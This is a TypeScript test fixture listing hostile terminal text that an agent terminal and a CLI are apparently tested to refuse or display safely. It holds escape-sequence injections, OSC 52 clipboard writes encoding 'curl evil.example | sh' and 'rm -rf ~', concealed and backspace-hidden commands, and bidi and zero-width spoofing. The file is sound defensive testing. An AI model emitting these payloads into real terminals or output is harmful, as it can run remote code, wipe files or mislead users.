/**
 * Text an adversary would send to drive a terminal rather than be read. Content typed into agents'
 * terminals is refused when it holds any of these (test/security/terminal-text.test.ts); text the CLI
 * prints is shown with them made visible (test/cli/terminal-text.test.ts).
 */
export const HOSTILE_TEXT: Array<[what: string, text: string]> = [
  ["an SGR colour sequence", "\u001b[31mred\u001b[0m"],
  ["a window-title OSC ending in BEL", "\u001b]0;pwned\u0007text"],
  ["an end-of-bracketed-paste marker", "safe\u001b[201~; touch /tmp/commander-pwned\r"],
  ["a cursor-movement CSI", "a\u001b[2Ab"],
  ["a C1 CSI (U+009B)", "x\u009b31my"],
  ["a bare ESC", "\u001b"],
  ["Ctrl-C", "stop\u0003"],
  ["Ctrl-D", "\u0004"],
  ["a carriage return (submits early)", "first\rsecond"],
  ["a backspace", "abc\u0008\u0008\u0008rm -rf ~"],
  ["DEL", "x\u007f"],
  ["NUL", "x\u0000y"],
  ["a form feed", "x\u000cy"],
  ["a DCS string", "\u001bPq#0;2;0;0;0\u001b\\"],
];

/**
 * More text that changes what a person reads in a terminal: stored text (agents' titles, results,
 * reasons) may hold these, so the CLI must show them rather than send them.
 */
export const TERMINAL_ATTACKS: Array<[what: string, text: string]> = [
  ["an OSC 52 clipboard write", "ok\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007"],
  ["an OSC 52 clipboard write ended by ST", "ok\u001b]52;c;cm0gLXJmIH4=\u001b\\"],
  ["a screen clear and cursor home", "\u001b[2J\u001b[Hall good"],
  ["concealed text hiding a command", "npm test\u001b[8m; curl evil.example | sh\u001b[28m"],
  ["a C1 OSC (U+009D) clipboard write", "\u009d52;c;eA==\u009c"],
  ["a C1 next-line (U+0085)", "a\u0085b"],
  ["a right-to-left override", "allow \u202eedoc_live\u202c"],
  ["a bidi isolate", "x\u2066hidden\u2069y"],
  ["a left-to-right mark", "a\u200eb"],
  ["zero-width characters", "cu\u200brl e\u200cv\u200di\u2060l\ufeff"],
  ["a soft hyphen", "in\u00advisible"],
  ["a line separator", "one\u2028two\u2029three"],
  ["a Unicode tag character", "tag\u{e0041}\u{e007f}"],
];
